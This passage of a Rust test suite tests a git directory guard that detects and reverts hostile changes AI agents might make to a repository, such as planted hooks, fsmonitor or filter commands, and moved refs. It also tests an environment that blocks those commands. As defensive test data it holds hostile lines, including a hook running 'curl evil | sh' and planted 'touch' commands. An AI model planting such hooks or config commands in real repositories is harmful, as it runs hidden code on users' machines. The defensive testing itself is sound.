//! Tests of the git directory guard and of the agents' git environment, against the git CLI.
//!
//! Each hostile change is made the way an agent would make it (the git CLI in its worktree,
//! or plain file writes), then the guard must name it exactly, undo it, and leave a
//! repository `git fsck` finds clean. The environment tests plant a command that writes a
//! marker file, check that git runs it without the environment, and that it does not run
//! with it. Nothing here measures time.

use std::collections::BTreeMap;
use std::fs;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use flow_engine::git::{Git, GitDirChange, GitSnapshot, Guarded, Oid, UndoReport, UserPlaces, agent_git_env};
use tempfile::TempDir;

/// A repository on `main` with three commits, two flow worktrees (`flow/a` at `wt/a`, the
/// guarded one, and `flow/b` at `wt/b`), an integration branch, and a fake home folder.
struct Repo {
    _tmp: TempDir,
    tmp: PathBuf,
    root: PathBuf,
    home: PathBuf,
    markers: PathBuf,
    /// The guarded worktree, `wt/a`.
    worktree: PathBuf,
    user: UserPlaces,
    flow_refs: Vec<String>,
}

impl Repo {
    fn new() -> Repo {
        let tmp_dir = TempDir::new().expect("temp dir");
        let tmp = fs::canonicalize(tmp_dir.path()).expect("canonical temp dir");
        let root = tmp.join("repo");
        let home = tmp.join("home");
        let markers = tmp.join("markers");
        for dir in [&root, &home, &markers] {
            fs::create_dir_all(dir).expect("create folder");
        }
        let user = UserPlaces {
            home: Some(home.clone()),
            xdg_config_home: Some(home.join(".config")),
            global_config: None,
        };
        let repo = Repo {
            _tmp: tmp_dir,
            tmp: tmp.clone(),
            root,
            home,
            markers,
            worktree: tmp.join("wt").join("a"),
            user,
            flow_refs: ["flow/into", "flow/b", "flow/c", "refs/heads/flow-tmp/"]
                .map(str::to_owned)
                .to_vec(),
        };
        repo.git(&repo.root, &["init", "-q", "-b", "main"]);
        for (n, text) in ["one", "two", "three"].iter().enumerate() {
            fs::write(repo.root.join("a.txt"), format!("{text}\n")).expect("write file");
            repo.git(&repo.root, &["add", "-A"]);
            repo.git(&repo.root, &["commit", "-q", "-m", &format!("commit {n}")]);
        }
        let git = repo.lib();
        let main = repo.rev("main");
        for name in ["a", "b"] {
            git.add_worktree(&repo.wt(name), &format!("flow/{name}"), main)
                .expect("add a worktree");
        }
        git.set_branch("flow/into", main, None, "integration branch")
            .expect("create the integration branch");
        repo
    }

    fn lib(&self) -> Git {
        Git::discover(&self.root).expect("discover the repository")
    }

    fn wt(&self, name: &str) -> PathBuf {
        self.tmp.join("wt").join(name)
    }

    fn common(&self) -> PathBuf {
        self.root.join(".git")
    }

    /// Runs git in `dir` with the fake home and no system configuration, plus `env`.
    fn run(&self, dir: &Path, args: &[&str], env: &[(String, String)], stdin: Option<&str>) -> Output {
        let mut command = Command::new("git");
        command.arg("-C").arg(dir).args(args);
        for name in [
            "GIT_DIR",
            "GIT_WORK_TREE",
            "GIT_INDEX_FILE",
            "GIT_COMMON_DIR",
            "GIT_OBJECT_DIRECTORY",
            "GIT_CONFIG_GLOBAL",
            "GIT_CONFIG_COUNT",
            "GIT_CONFIG_PARAMETERS",
            "GIT_PROXY_COMMAND",
            "GIT_SSH",
            "GIT_SSH_COMMAND",
            "GIT_ASKPASS",
            "SSH_ASKPASS",
            "GIT_EDITOR",
            "GIT_SEQUENCE_EDITOR",
            "EDITOR",
            "VISUAL",
            "GIT_PAGER",
            "PAGER",
            "GIT_EXTERNAL_DIFF",
        ] {
            command.env_remove(name);
        }
        command
            .env("HOME", &self.home)
            .env("XDG_CONFIG_HOME", self.home.join(".config"))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_TERMINAL_PROMPT", "0")
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@t")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@t")
            .env("GIT_AUTHOR_DATE", "2024-01-01T00:00:00Z")
            .env("GIT_COMMITTER_DATE", "2024-01-01T00:00:00Z")
            .envs(env.iter().map(|(k, v)| (k, v)))
            .stdin(if stdin.is_some() { Stdio::piped() } else { Stdio::null() })
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = command.spawn().expect("the git CLI starts");
        if let Some(text) = stdin {
            let mut pipe = child.stdin.take().expect("a stdin pipe");
            // git may exit before reading everything: a broken pipe is not a failure.
            let _ = pipe.write_all(text.as_bytes());
        }
        child.wait_with_output().expect("the git CLI ends")
    }

    /// Runs git and returns its trimmed stdout, failing the test when git fails.
    fn git(&self, dir: &Path, args: &[&str]) -> String {
        let output = self.run(dir, args, &[], None);
        assert!(
            output.status.success(),
            "git {args:?} in {} failed:\n{}",
            dir.display(),
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8_lossy(&output.stdout).trim().to_owned()
    }

    fn rev(&self, rev: &str) -> Oid {
        Oid::from_hex(&self.git(&self.root, &["rev-parse", rev])).expect("a full id")
    }

    fn short(&self, rev: &str) -> String {
        self.rev(rev).short()
    }

    fn guarded(&self) -> Guarded<'_> {
        Guarded {
            worktree: &self.worktree,
            branch: "flow/a",
            flow_refs: &self.flow_refs,
            user: &self.user,
        }
    }

    fn snapshot(&self) -> GitSnapshot {
        self.lib().snapshot_git_dir(&self.guarded(), None).expect("snapshot")
    }

    fn changes(&self, snapshot: &GitSnapshot) -> Vec<GitDirChange> {
        self.lib().git_dir_changes(snapshot, &self.guarded()).expect("compare")
    }

    fn undo(&self, snapshot: &GitSnapshot, changes: &[GitDirChange], keep_in: Option<&Path>) -> UndoReport {
        self.lib()
            .undo_git_dir_changes(snapshot, changes, keep_in)
            .expect("undo")
    }

    /// Asserts that the changes since `snapshot` read exactly `expected`, that the undo puts
    /// all of them back, that nothing differs afterwards and that `git fsck` is clean;
    /// returns what the undo said it did.
    fn assert_found_and_undone(&self, snapshot: &GitSnapshot, expected: &[String]) -> Vec<String> {
        let changes = self.changes(snapshot);
        let named: Vec<String> = changes.iter().map(ToString::to_string).collect();
        assert_eq!(named, expected);
        let report = self.undo(snapshot, &changes, None);
        assert_eq!(report.left, Vec::<String>::new(), "the undo left something: {report:?}");
        assert_eq!(report.done.len(), changes.len(), "one undo per change: {report:?}");
        let after: Vec<String> = self.changes(snapshot).iter().map(ToString::to_string).collect();
        assert_eq!(after, Vec::<String>::new(), "changes remain after the undo");
        self.assert_fsck_clean();
        report.done
    }

    fn assert_fsck_clean(&self) {
        let output = self.run(&self.root, &["fsck", "--no-progress", "--no-dangling"], &[], None);
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        );
        assert!(output.status.success() && text.trim().is_empty(), "git fsck: {text}");
    }

    /// Writes an executable script that creates the marker file `name` (and fails, so that
    /// whatever git ran it for stops there).
    fn plant(&self, name: &str) -> String {
        let path = self.tmp.join("planted").join(name);
        fs::create_dir_all(path.parent().expect("a folder")).expect("create folder");
        let script = format!("#!/bin/sh\ntouch '{}'\nexit 1\n", self.markers.join(name).display());
        fs::write(&path, script).expect("write script");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("make it executable");
        path.display().to_string()
    }

    /// Runs git and tells whether the marker `name` appeared.
    fn marks(&self, name: &str, dir: &Path, args: &[&str], env: &[(String, String)], stdin: Option<&str>) -> bool {
        let marker = self.markers.join(name);
        let _ = fs::remove_file(&marker);
        self.run(dir, args, env, stdin);
        marker.exists()
    }
}

/// The environment the agent's git gets: no hooks of flow's, nothing else set before.
fn agent_env() -> Vec<(String, String)> {
    agent_git_env(None, &BTreeMap::new())
}

fn write(path: &Path, text: &str) {
    fs::create_dir_all(path.parent().expect("a folder")).expect("create folder");
    fs::write(path, text).expect("write file");
}

fn mode(path: &Path) -> u32 {
    fs::symlink_metadata(path).expect("inspect").permissions().mode() & 0o7777
}

fn strings(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| (*s).to_owned()).collect()
}

// The guard: each hostile change found, named, undone.

#[test]
fn an_fsmonitor_set_in_the_shared_config_is_named_and_undone_from_a_stored_snapshot() {
    let r = Repo::new();
    let config = r.common().join("config");
    let original = fs::read(&config).expect("read config");
    // As `flow prepare` keeps it for `flow merge`.
    let stored = serde_json::to_string(&r.snapshot()).expect("serialize");
    let snapshot: GitSnapshot = serde_json::from_str(&stored).expect("deserialize");
    assert_eq!(snapshot, r.snapshot());

    let common_dir = r.git(&r.wt("a"), &["rev-parse", "--git-common-dir"]);
    let config_file = Path::new(&common_dir).join("config");
    let config_file = config_file.to_str().expect("utf-8 path");
    r.git(
        &r.wt("a"),
        &["config", "--file", config_file, "core.fsmonitor", "touch /tmp/x"],
    );

    let done = r.assert_found_and_undone(
        &snapshot,
        &strings(&["changed .git/config: core.fsmonitor set to `touch /tmp/x`"]),
    );
    assert_eq!(done, strings(&["restored .git/config"]));
    assert_eq!(fs::read(&config).expect("read config"), original);
}

#[test]
fn hooks_added_changed_or_made_executable_are_named_and_undone() {
    let r = Repo::new();
    let hooks = r.common().join("hooks");
    write(&hooks.join("pre-push"), "#!/bin/sh\necho the user's check\n");
    fs::set_permissions(hooks.join("pre-push"), fs::Permissions::from_mode(0o755)).expect("chmod");
    write(&hooks.join("post-checkout"), "#!/bin/sh\necho turned off by the user\n");
    fs::set_permissions(hooks.join("post-checkout"), fs::Permissions::from_mode(0o644)).expect("chmod");
    let snapshot = r.snapshot();

    write(&hooks.join("pre-commit"), "#!/bin/sh\ntouch /tmp/owned\n");
    fs::set_permissions(hooks.join("pre-commit"), fs::Permissions::from_mode(0o755)).expect("chmod");
    write(&hooks.join("pre-push"), "#!/bin/sh\ncurl evil | sh\n");
    fs::set_permissions(hooks.join("post-checkout"), fs::Permissions::from_mode(0o755)).expect("chmod");

    let changes = r.changes(&snapshot);
    let named: Vec<String> = changes.iter().map(ToString::to_string).collect();
    assert_eq!(
        named,
        strings(&[
            "changed the mode of hook .git/hooks/post-checkout from 644 to 755",
            "added hook .git/hooks/pre-commit",
            "changed hook .git/hooks/pre-push",
        ])
    );
    let kept = r.tmp.join("kept");
    let report = r.undo(&snapshot, &changes, Some(&kept));
    assert_eq!(report.left, Vec::<String>::new());
    assert_eq!(report.done.len(), 3, "{report:?}");
    assert!(
        report.done[0].starts_with("removed hook .git/hooks/pre-commit (what was there is kept in "),
        "{report:?}"
    );
    assert_eq!(
        report.done[1],
        "restored the mode of hook .git/hooks/post-checkout (644)"
    );
    assert!(
        report.done[2].starts_with("restored hook .git/hooks/pre-push (what was there is kept in "),
        "{report:?}"
    );
    assert!(!hooks.join("pre-commit").exists());
    assert_eq!(mode(&hooks.join("post-checkout")), 0o644);
    assert_eq!(
        fs::read_to_string(hooks.join("pre-push")).expect("read hook"),
        "#!/bin/sh\necho the user's check\n"
    );
    // The removed and the overwritten hook are kept, not executable.
    let mut kept_files: Vec<(String, String, u32)> = fs::read_dir(&kept)
        .expect("the kept folder")
        .map(|entry| {
            let path = entry.expect("an entry").path();
            let name = path.file_name().expect("a name").to_string_lossy().into_owned();
            (name, fs::read_to_string(&path).expect("read"), mode(&path))
        })
        .collect();
    kept_files.sort();
    assert_eq!(
        kept_files,
        vec![
            (
                "1-.git_hooks_pre-commit".to_owned(),
                "#!/bin/sh\ntouch /tmp/owned\n".to_owned(),
                0o600
            ),
            (
                "1-.git_hooks_pre-push".to_owned(),
                "#!/bin/sh\ncurl evil | sh\n".to_owned(),
                0o600
            ),
        ]
    );
    assert_eq!(r.changes(&snapshot), vec![]);
    r.assert_fsck_clean();
}

#[test]
fn attributes_naming_a_filter_are_named_and_undone() {
    let r = Repo::new();
    let snapshot = r.snapshot();
    r.git(&r.wt("a"), &["config", "filter.evil.clean", "sh -c 'touch /tmp/x'"]);
    write(&r.common().join("info/attributes"), "* filter=evil\n");

    r.assert_found_and_undone(
        &snapshot,
        &strings(&[
            "changed .git/config: filter.evil.clean set to `sh -c 'touch /tmp/x'`",
            "added .git/info/attributes",
        ]),
    );
    assert!(!r.common().join("info/attributes").exists());
}

#[test]
fn new_refs_are_named_and_removed() {
    let r = Repo::new();
    let snapshot = r.snapshot();
    let (main, parent) = (r.rev("main"), r.rev("main~1"));
    r.git(&r.wt("a"), &["branch", "elsewhere"]);
    // From now on git shows the parent wherever the user's main is.
    r.git(&r.wt("a"), &["replace", "main", "main~1"]);

    r.assert_found_and_undone(
        &snapshot,
        &[
            format!("added ref refs/heads/elsewhere at {}", main.short()),
            format!("added ref refs/replace/{main} at {}", parent.short()),
        ],
    );
    assert_eq!(
        r.git(&r.root, &["show-ref"]).lines().count(),
        4,
        "main, flow/a, flow/b, flow/into"
    );
}

#[test]
fn a_moved_main_and_a_switched_main_checkout_are_put_back() {
    let r = Repo::new();
    r.git(&r.root, &["branch", "other", "main~2"]);
    let (main, first) = (r.short("main"), r.short("main~2"));
    let snapshot = r.snapshot();
    r.git(&r.wt("a"), &["update-ref", "refs/heads/main", "main~2"]);
    let common = r.common();
    let git_dir = format!("--git-dir={}", common.display());
    r.git(&r.wt("a"), &[&git_dir, "symbolic-ref", "HEAD", "refs/heads/other"]);

    let done = r.assert_found_and_undone(
        &snapshot,
        &[
            "moved HEAD of the main checkout from refs/heads/main to refs/heads/other".to_owned(),
            format!("moved refs/heads/main from {main} to {first}"),
        ],
    );
    assert_eq!(
        done,
        vec![
            "put HEAD of the main checkout back from refs/heads/other to refs/heads/main".to_owned(),
            format!("put refs/heads/main back from {first} to {main}"),
        ]
    );
    assert_eq!(r.git(&r.root, &["symbolic-ref", "HEAD"]), "refs/heads/main");
    assert_eq!(r.short("main"), main);
}

#[test]
fn a_ref_file_git_cannot_read_any_more_is_restored() {
    let r = Repo::new();
    r.git(&r.root, &["branch", "other", "main~1"]);
    let other = r.short("other");
    let snapshot = r.snapshot();
    fs::write(r.common().join("refs/heads/other"), "ref:refs/heads/main\n").expect("write ref");

    let done = r.assert_found_and_undone(&snapshot, &[format!("removed ref refs/heads/other (was at {other})")]);
    assert_eq!(done, vec![format!("restored ref refs/heads/other at {other}")]);
    assert_eq!(r.short("other"), other);
}

#[test]
fn an_edited_packed_refs_is_named_and_undone() {
    let r = Repo::new();
    r.git(&r.root, &["pack-refs", "--all"]);
    let (main, first) = (r.rev("main").to_string(), r.rev("main~2").to_string());
    let snapshot = r.snapshot();
    let packed = r.common().join("packed-refs");
    let text = fs::read_to_string(&packed).expect("read packed-refs");
    assert!(!r.common().join("refs/heads/main").exists(), "main is packed");
    // Main moved back two commits, and a ref added in its sorted place.
    let edited = text
        .replace(
            &format!("{main} refs/heads/main\n"),
            &format!("{first} refs/heads/main\n"),
        )
        .replace(
            &format!("{main} refs/heads/flow/into\n"),
            &format!("{main} refs/heads/flow/into\n{first} refs/heads/guest\n"),
        );
    assert_ne!(edited, text);
    fs::write(&packed, edited).expect("write packed-refs");
    assert_eq!(r.rev("main").to_string(), first, "git reads the edit");

    let (main_short, first_short) = (main[..7].to_owned(), first[..7].to_owned());
    r.assert_found_and_undone(
        &snapshot,
        &[
            format!("added ref refs/heads/guest at {first_short}"),
            format!("moved refs/heads/main from {main_short} to {first_short}"),
        ],
    );
    assert_eq!(r.rev("main").to_string(), main);
    assert!(
        r.run(&r.root, &["rev-parse", "--verify", "-q", "guest"], &[], None)
            .stdout
            .is_empty()
    );
}

#[test]
fn a_packed_refs_out_of_order_that_hides_refs_from_git_is_named_and_rewritten() {
    let r = Repo::new();
    r.git(&r.root, &["pack-refs", "--all"]);
    let main = r.rev("main").to_string();
    let snapshot = r.snapshot();
    let packed = r.common().join("packed-refs");
    let text = fs::read_to_string(&packed).expect("read packed-refs");
    let mut lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].contains(" sorted"), "git writes a sorted header: {}", lines[0]);
    // The last ref moved to the front, under the same header.
    let last = lines.pop().expect("a ref");
    lines.insert(1, last);
    fs::write(&packed, format!("{}\n", lines.join("\n"))).expect("write packed-refs");
    let name = |line: &str| line.split_once(' ').expect("a ref line").1.to_owned();
    let output = r.run(&r.root, &["rev-parse", "--verify", "-q", "refs/heads/main"], &[], None);
    assert!(!output.status.success(), "git no longer finds a ref the file holds");

    r.assert_found_and_undone(
        &snapshot,
        &[format!(
            "changed .git/packed-refs so that git reads it differently: its header says the refs are \
             sorted, but {} comes after {}",
            name(lines[2]),
            name(lines[1])
        )],
    );
    assert_eq!(r.rev("refs/heads/main").to_string(), main);
}

#[test]
fn a_config_worktree_written_for_a_sibling_is_named_and_removed() {
    let r = Repo::new();
    let snapshot = r.snapshot();
    write(
        &r.common().join("worktrees/flow-b/config.worktree"),
        "[core]\n\tfsmonitor = touch /tmp/x\n",
    );
    r.assert_found_and_undone(
        &snapshot,
        &strings(&["added .git/worktrees/flow-b/config.worktree: core.fsmonitor set to `touch /tmp/x`"]),
    );
}

#[test]
fn the_worktrees_own_hooks_path_is_named_and_removed() {
    let r = Repo::new();
    r.git(&r.root, &["config", "extensions.worktreeConfig", "true"]);
    let snapshot = r.snapshot();
    r.git(
        &r.wt("a"),
        &["config", "--worktree", "core.hooksPath", "/tmp/evil-hooks"],
    );
    let done = r.assert_found_and_undone(
        &snapshot,
        &strings(&["added .git/worktrees/flow-a/config.worktree: core.hookspath set to `/tmp/evil-hooks`"]),
    );
    assert_eq!(done, strings(&["removed .git/worktrees/flow-a/config.worktree"]));
}

#[test]
fn the_users_global_configuration_is_named_and_restored() {
    let r = Repo::new();
    let gitconfig = r.home.join(".gitconfig");
    write(&gitconfig, "[user]\n\tname = me\n");
    let snapshot = r.snapshot();
    r.git(&r.wt("a"), &["config", "--global", "core.fsmonitor", "touch /tmp/x"]);
    write(&r.home.join(".config/git/config"), "[core]\n\tpager = touch /tmp/y\n");

    let done = r.assert_found_and_undone(
        &snapshot,
        &strings(&[
            "added ~/.config/git/config: core.pager set to `touch /tmp/y`",
            "changed ~/.gitconfig: core.fsmonitor set to `touch /tmp/x`",
        ]),
    );
    assert_eq!(
        done,
        strings(&["removed ~/.config/git/config", "restored ~/.gitconfig"])
    );
    assert_eq!(fs::read_to_string(&gitconfig).expect("read"), "[user]\n\tname = me\n");
}

#[test]
fn included_files_and_the_users_hooks_folder_are_watched_too() {
    let r = Repo::new();
    write(
        &r.home.join(".gitconfig"),
        "[include]\n\tpath = extra.cfg\n[core]\n\thooksPath = ~/hooks\n",
    );
    write(&r.home.join("extra.cfg"), "[user]\n\temail = me@example.com\n");
    fs::create_dir_all(r.home.join("hooks")).expect("create hooks folder");
    let snapshot = r.snapshot();
    write(
        &r.home.join("extra.cfg"),
        "[user]\n\temail = me@example.com\n[core]\n\tfsmonitor = touch /tmp/x\n",
    );
    write(&r.home.join("hooks/pre-commit"), "#!/bin/sh\ntouch /tmp/x\n");

    r.assert_found_and_undone(
        &snapshot,
        &strings(&[
            "changed ~/extra.cfg: core.fsmonitor set to `touch /tmp/x`",
            "added hook ~/hooks/pre-commit",
        ]),
    );
}

#[test]
fn a_hooks_folder_replaced_by_a_link_is_undone_without_touching_what_it_points_at() {
    let r = Repo::new();
    let hooks = r.common().join("hooks");
    let samples: Vec<String> = fs::read_dir(&hooks)
        .expect("git made a hooks folder")
        .map(|entry| entry.expect("an entry").file_name().to_string_lossy().into_owned())
        .collect();
    assert!(!samples.is_empty(), "git's template has sample hooks");
    let outside = r.tmp.join("outside");
    write(&outside.join("precious"), "the user's file\n");
    write(&outside.join("pre-commit"), "#!/bin/sh\ntouch /tmp/x\n");
    let snapshot = r.snapshot();
    fs::remove_dir_all(&hooks).expect("remove hooks");
    std::os::unix::fs::symlink(&outside, &hooks).expect("link");

    let changes = r.changes(&snapshot);
    let named: Vec<String> = changes.iter().map(ToString::to_string).collect();
    let mut expected = vec![format!(
        "replaced .git/hooks: a folder became a link to `{}`",
        outside.display()
    )];
    let mut removed: Vec<String> = samples
        .iter()
        .map(|name| format!("removed hook .git/hooks/{name}"))
        .collect();
    removed.sort();
    expected.extend(removed);
    assert_eq!(named, expected);

    let report = r.undo(&snapshot, &changes, None);
    assert_eq!(report.left, Vec::<String>::new());
    assert!(!fs::symlink_metadata(&hooks).expect("hooks").file_type().is_symlink());
    let mut restored: Vec<String> = fs::read_dir(&hooks)
        .expect("hooks is a folder again")
        .map(|entry| entry.expect("an entry").file_name().to_string_lossy().into_owned())
        .collect();
    restored.sort();
    let mut samples = samples;
    samples.sort();
    assert_eq!(restored, samples);
    assert_eq!(
        fs::read_to_string(outside.join("precious")).expect("untouched"),
        "the user's file\n"
    );
    assert!(outside.join("pre-commit").exists(), "nothing deleted through the link");
    assert_eq!(r.changes(&snapshot), vec![]);
    r.assert_fsck_clean();
}

#[test]
fn a_submodules_git_directory_is_watched() {
    let r = Repo::new();
    let snapshot = r.snapshot();
    write(
        &r.common().join("modules/sub/config"),
        "[core]\n\tfsmonitor = touch /tmp/x\n",
    );
    write(&r.common().join("modules/sub/hooks/post-checkout"), "#!/bin/sh\n");
    write(&r.common().join("modules/sub/objects/ab/cdef"), "not looked at\n");

    r.assert_found_and_undone(
        &snapshot,
        &strings(&[
            "added .git/modules/sub/config: core.fsmonitor set to `touch /tmp/x`",
            "added .git/modules/sub/hooks (a folder)",
            "added hook .git/modules/sub/hooks/post-checkout",
        ]),
    );
}

#[test]
fn the_stash_list_is_restored_entry_by_entry() {
    let r = Repo::new();
    fs::write(r.root.join("a.txt"), "the user's work in progress\n").expect("write");
    r.git(&r.root, &["stash", "-q"]);
    let users = r.git(&r.root, &["stash", "list", "--format=%H %gs"]);
    let snapshot = r.snapshot();

    fs::write(r.wt("a").join("a.txt"), "the agent's\n").expect("write");
    r.git(&r.wt("a"), &["stash", "-q"]);
    let agents = r.short("refs/stash");
    let done = r.assert_found_and_undone(&snapshot, &[format!("changed the stash list: added {agents}")]);
    assert_eq!(done, strings(&["restored the stash list"]));
    assert_eq!(r.git(&r.root, &["stash", "list", "--format=%H %gs"]), users);

    let users_short = r.short("refs/stash");
    r.git(&r.wt("a"), &["stash", "drop", "-q"]);
    r.assert_found_and_undone(&snapshot, &[format!("changed the stash list: dropped {users_short}")]);
    assert_eq!(r.git(&r.root, &["stash", "list", "--format=%H %gs"]), users);
}

#[test]
fn what_flow_and_the_other_agents_change_meanwhile_is_not_reported() {
    let r = Repo::new();
    let git = r.lib();
    let snapshot = r.snapshot();

    // The agent's own commit, and another agent's in its worktree.
    for name in ["a", "b"] {
        fs::write(r.wt(name).join(format!("{name}.txt")), "work\n").expect("write");
        r.git(&r.wt(name), &["add", "-A"]);
        r.git(&r.wt(name), &["commit", "-q", "-m", "work"]);
    }
    // Flow merges, makes a temporary branch, starts another workstream, locks a worktree.
    let b = r.rev("flow/b");
    git.set_branch("flow/into", b, Some(r.rev("main")), "merge")
        .expect("merge");
    git.set_branch("flow-tmp/checkout-x", b, None, "temporary")
        .expect("temporary branch");
    git.add_worktree(&r.wt("c"), "flow/c", b).expect("a new worktree");
    git.lock_worktree(&r.wt("c"), "flow run").expect("lock");
    // git packs refs and objects, as `git gc --auto` after any commit may.
    r.git(&r.root, &["gc", "-q"]);
    // A finished workstream's worktree goes.
    git.remove_worktree(&r.wt("b"), true).expect("remove a worktree");

    assert_eq!(r.changes(&snapshot), vec![]);
}

#[test]
fn a_snapshot_on_a_base_keeps_out_what_another_agent_changed_before_it() {
    let r = Repo::new();
    let git = r.lib();
    let base = r.snapshot();
    // Agent a plants, and has not been compared yet when agent b starts.
    r.git(&r.wt("a"), &["config", "core.fsmonitor", "touch /tmp/x"]);
    write(
        &r.common().join("worktrees/flow-a/config.worktree"),
        "[core]\n\thooksPath = /tmp/h\n",
    );
    let b_refs = ["flow/into", "flow/a", "flow/c", "refs/heads/flow-tmp/"].map(str::to_owned);
    let b_dir = r.wt("b");
    let b = Guarded {
        worktree: &b_dir,
        branch: "flow/b",
        flow_refs: &b_refs,
        user: &r.user,
    };
    // Read afresh, b's snapshot would hold the plant, and b's undo would put it back.
    let naive = git.snapshot_git_dir(&b, None).expect("snapshot");
    assert_eq!(git.git_dir_changes(&naive, &b).expect("compare"), vec![]);

    let snapshot = git.snapshot_git_dir(&b, Some(&base)).expect("snapshot on the base");
    let changes = git.git_dir_changes(&snapshot, &b).expect("compare");
    let named: Vec<String> = changes.iter().map(ToString::to_string).collect();
    assert_eq!(
        named,
        strings(&[
            "changed .git/config: core.fsmonitor set to `touch /tmp/x`",
            "added .git/worktrees/flow-a/config.worktree: core.hookspath set to `/tmp/h`",
        ])
    );
    let report = git.undo_git_dir_changes(&snapshot, &changes, None).expect("undo");
    assert_eq!(report.left, Vec::<String>::new());
    // Agent a's own comparison, later, finds everything back already.
    assert_eq!(r.changes(&base), vec![]);
    assert_eq!(r.undo(&base, &[], None), UndoReport::default());
    r.assert_fsck_clean();
}

#[test]
fn an_undo_leaves_alone_what_changed_again_since_the_comparison() {
    let r = Repo::new();
    let snapshot = r.snapshot();
    r.git(&r.wt("a"), &["update-ref", "refs/heads/main", "main~1"]);
    r.git(&r.wt("a"), &["config", "core.pager", "less"]);
    let changes = r.changes(&snapshot);
    assert_eq!(changes.len(), 2);
    // The user (or another undo) moves on meanwhile.
    r.git(&r.root, &["update-ref", "refs/heads/main", "main~1"]);
    let now = r.short("main");
    r.git(&r.root, &["config", "core.pager", "more"]);

    let report = r.undo(&snapshot, &changes, None);
    assert_eq!(report.done, Vec::<String>::new());
    assert_eq!(
        report.left,
        vec![
            format!("left refs/heads/main alone: it changed again since (now at {now})"),
            "left .git/config alone: it changed again since the comparison".to_owned(),
        ]
    );
    assert_eq!(r.git(&r.root, &["config", "core.pager"]), "more");
}

// The agents' git environment: what git 2.47 honours.

#[test]
fn an_fsmonitor_planted_in_any_configuration_does_not_run() {
    let r = Repo::new();
    let wt = r.wt("a");
    let status = ["status", "--porcelain"];
    r.git(&r.root, &["config", "extensions.worktreeConfig", "true"]);
    let places: [(&str, Vec<&str>); 4] = [
        ("shared", vec!["config"]),
        ("worktree", vec!["config", "--worktree"]),
        ("global", vec!["config", "--global"]),
        ("included", vec!["config", "--file", "included.cfg"]),
    ];
    for (place, command) in places {
        let script = r.plant(place);
        let mut set = command.clone();
        set.extend(["core.fsmonitor", &script]);
        if place == "included" {
            // The planted file, and the include that brings it in.
            r.git(&r.tmp, &set);
            let included = r.tmp.join("included.cfg");
            r.git(&wt, &["config", "include.path", included.to_str().expect("utf-8 path")]);
        } else {
            r.git(&wt, &set);
        }
        assert!(
            r.marks(place, &wt, &status, &[], None),
            "{place}: git runs a planted fsmonitor"
        );
        assert!(
            !r.marks(place, &wt, &status, &agent_env(), None),
            "{place}: not with the agent's environment"
        );
        let mut unset = command;
        unset.extend(["--unset-all", "core.fsmonitor"]);
        if place == "included" {
            r.git(&wt, &["config", "--unset", "include.path"]);
        } else {
            r.git(&wt, &unset);
        }
    }
}

#[test]
fn hooks_run_only_from_the_folder_flow_gives() {
    let r = Repo::new();
    let wt = r.wt("a");
    let commit = ["commit", "-q", "--allow-empty", "-m", "x"];
    let planted = r.plant("planted-hook");
    write(
        &r.common().join("hooks/pre-commit"),
        &fs::read_to_string(&planted).expect("read"),
    );
    fs::set_permissions(r.common().join("hooks/pre-commit"), fs::Permissions::from_mode(0o755)).expect("chmod");
    assert!(r.marks("planted-hook", &wt, &commit, &[], None), "git runs .git/hooks");
    assert!(
        !r.marks("planted-hook", &wt, &commit, &agent_env(), None),
        "no hooks with no folder from flow"
    );

    let flows = r.tmp.join("flow-hooks");
    let flow_hook = r.plant("flow-hook");
    write(
        &flows.join("pre-commit"),
        &fs::read_to_string(&flow_hook).expect("read"),
    );
    fs::set_permissions(flows.join("pre-commit"), fs::Permissions::from_mode(0o755)).expect("chmod");
    let env = agent_git_env(Some(&flows), &BTreeMap::new());
    let _ = fs::remove_file(r.markers.join("flow-hook"));
    assert!(!r.marks("planted-hook", &wt, &commit, &env, None), "not .git/hooks");
    assert!(r.markers.join("flow-hook").exists(), "flow's own hook runs");

    // A hooks folder planted in the worktree's configuration loses to flow's.
    r.git(&r.root, &["config", "extensions.worktreeConfig", "true"]);
    let elsewhere = r.tmp.join("planted-hooks");
    let other = r.plant("elsewhere-hook");
    write(
        &elsewhere.join("pre-commit"),
        &fs::read_to_string(&other).expect("read"),
    );
    fs::set_permissions(elsewhere.join("pre-commit"), fs::Permissions::from_mode(0o755)).expect("chmod");
    r.git(
        &wt,
        &[
            "config",
            "--worktree",
            "core.hooksPath",
            elsewhere.to_str().expect("utf-8"),
        ],
    );
    assert!(
        r.marks("elsewhere-hook", &wt, &commit, &[], None),
        "git runs the planted folder"
    );
    assert!(!r.marks("elsewhere-hook", &wt, &commit, &env, None), "not with flow's");
    assert!(
        !r.marks("elsewhere-hook", &wt, &commit, &agent_env(), None),
        "nor with none"
    );
}

#[test]
fn planted_commands_do_not_run() {
    let r = Repo::new();
    let wt = r.wt("a");
    // A commit carrying a signature, for `log.showSignature` to verify.
    let tree = r.git(&wt, &["rev-parse", "HEAD^{tree}"]);
    let signed_text = format!(
        "tree {tree}\nauthor t <t@t> 1700000000 +0000\ncommitter t <t@t> 1700000000 +0000\n\
         gpgsig -----BEGIN PGP SIGNATURE-----\n \n abc\n -----END PGP SIGNATURE-----\n\nsigned\n"
    );
    let output = r.run(
        &wt,
        &["hash-object", "-t", "commit", "-w", "--stdin"],
        &[],
        Some(&signed_text),
    );
    let signed = String::from_utf8_lossy(&output.stdout).trim().to_owned();
    let ext_marker = r.markers.join("ext");
    let ext_url = format!("ext::sh -c touch% {}", ext_marker.display());
    fs::write(wt.join("a.txt"), "changed\n").expect("write");

    let fill = Some("protocol=https\nhost=example.com\n\n");
    let cases = [
        Planted::new(
            "editor",
            &[("core.editor", &r.plant("editor"))],
            &["commit", "--allow-empty"],
        ),
        Planted::new(
            "sequence-editor",
            &[("sequence.editor", &r.plant("sequence-editor"))],
            &["rebase", "-i", "--autostash", "HEAD~1"],
        ),
        Planted {
            input: fill,
